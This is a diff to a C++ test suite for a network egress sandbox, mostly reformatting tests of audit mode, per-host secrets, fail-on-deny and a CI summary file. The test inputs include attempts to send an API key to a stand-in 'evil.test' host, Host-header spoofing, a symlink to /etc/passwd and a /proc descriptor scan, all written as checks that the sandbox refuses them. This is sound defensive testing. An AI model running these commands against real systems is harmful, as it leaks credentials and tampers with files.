@@ -40,7 +40,9 @@ TEST_CASE("audit mode: what it saw becomes a policy, which then allows that and 
     for (const auto user : sandbox_users()) {
         Sandbox sandbox(user, routes(origin), &origin);
         sandbox.run_options = {"--mode", "audit"};
-        const std::string job = "curl -sS https://api.example.test/echo/1 https://api.example.test/echo/2 && curl -sSd x https://other.example.test/echo";
+        const std::string job =
+            "curl -sS https://api.example.test/echo/1 https://api.example.test/echo/2 && curl -sSd x "
+            "https://other.example.test/echo";
         const auto audited = sandbox.run(job);
         CAPTURE(audited.shown());
         REQUIRE(audited.exited_with(0));
@@ -69,7 +71,8 @@ TEST_CASE("audit mode: what it saw becomes a policy, which then allows that and 
         CHECK(denied.exited_with(1));
         CHECK(denied.complains("--fail-on-deny"));
         CHECK(origin.requests().size() == before);
-        CHECK_FALSE(run_program({program(), "suggest", "--policy", sandbox.policy_file(), sandbox.audit_file()}).says("[[allow]]"));
+        CHECK_FALSE(run_program({program(), "suggest", "--policy", sandbox.policy_file(), sandbox.audit_file()})
+                        .says("[[allow]]"));
     }
 }
 
@@ -80,13 +83,14 @@ TEST_CASE("audit mode: secrets go to their host only, and a placeholder is refus
         "-u \"user:$API_KEY\" https://other.example.test/echo",
         "\"https://other.example.test/echo?key=$API_KEY\"",
         "--resolve evil.test:443:203.0.113.9 -H \"x-api-key: $API_KEY\" https://evil.test/",
-        "http://api.example.test/echo",   // the right host, but not over TLS
+        "http://api.example.test/echo",  // the right host, but not over TLS
         "-H 'Host: other.example.test' https://api.example.test/echo",
     };
     for (const auto user : sandbox_users()) {
         Sandbox sandbox(user, secret() + routes(origin), &origin, {std::string("API_KEY=") + StandIn::kKey});
         sandbox.run_options = {"--mode", "audit"};
-        const auto right = sandbox.run("curl -sS https://api.example.test/echo; curl -sS https://other.example.test/echo");
+        const auto right =
+            sandbox.run("curl -sS https://api.example.test/echo; curl -sS https://other.example.test/echo");
         CAPTURE(right.shown());
         CHECK(right.says("\"key\": \"right\""));
         CHECK(right.says("\"key\": null"));
@@ -105,7 +109,9 @@ TEST_CASE("audit mode: secrets go to their host only, and a placeholder is refus
     }
 }
 
-TEST_CASE("audit mode: without a policy file there is nothing to enforce; metadata stays out of reach, and so does a policy that is missing by name") {
+TEST_CASE(
+    "audit mode: without a policy file there is nothing to enforce; metadata stays out of reach, and so does a policy "
+    "that is missing by name") {
     for (const auto user : sandbox_users()) {
         const Sandbox sandbox(user, "");
         std::filesystem::remove(sandbox.policy_file());
@@ -142,7 +148,7 @@ TEST_CASE("fail-on-deny: the command's own failure wins, and only something deni
             sandbox.run_options = {"--fail-on-deny", "--mode", mode};
             CHECK(sandbox.run("curl -sS https://api.example.test/echo").exited_with(0));
             CHECK(sandbox.run("curl -s https://other.example.test/echo; exit 0").exited_with(1));
-            CHECK(sandbox.run(deny + "exit 0").exited_with(1));   // only looked up, or refused since it does not exist
+            CHECK(sandbox.run(deny + "exit 0").exited_with(1));  // only looked up, or refused since it does not exist
             CHECK(sandbox.run(deny + "exit 7").exited_with(7));
             CHECK(WTERMSIG(sandbox.run(deny + "kill -TERM $$").status) == SIGTERM);
         }
@@ -156,13 +162,16 @@ TEST_CASE("summary file: the table is appended when the command has ended, which
         sandbox.write("summary.md", "before\n");
         const auto file = (sandbox.directory() / "summary.md").string();
         sandbox.options.environment.push_back("GITHUB_STEP_SUMMARY=" + file);
-        const auto ran = sandbox.run("curl -sS https://api.example.test/echo; curl -s 'https://api.example.test/a|b`<c>'; "
-                                     "echo \"var=$GITHUB_STEP_SUMMARY\"; cat summary.md; echo '<!--' >>summary.md; "
-                                     "mv summary.md gone.md; ln -s /etc/passwd summary.md; exit 0");
+        const auto ran = sandbox.run(
+            "curl -sS https://api.example.test/echo; curl -s 'https://api.example.test/a|b`<c>'; "
+            "echo \"var=$GITHUB_STEP_SUMMARY\"; cat summary.md; echo '<!--' >>summary.md; "
+            "mv summary.md gone.md; ln -s /etc/passwd summary.md; "
+            "for fd in /proc/[0-9]*/fd/*; do readlink $fd | grep summary.md; done; exit 0");
         CAPTURE(ran.shown());
         CHECK(ran.exited_with(0));
         CHECK(ran.says("var=\n"));
         CHECK_FALSE(ran.says("before"));
+        CHECK_FALSE(ran.says("summary.md"));  // no descriptor of it is left to reopen
         const auto text = content(file);
         CAPTURE(text);
         CHECK(text.starts_with("before\n\n### Sallyport: 2 allowed, 0 denied\n"));
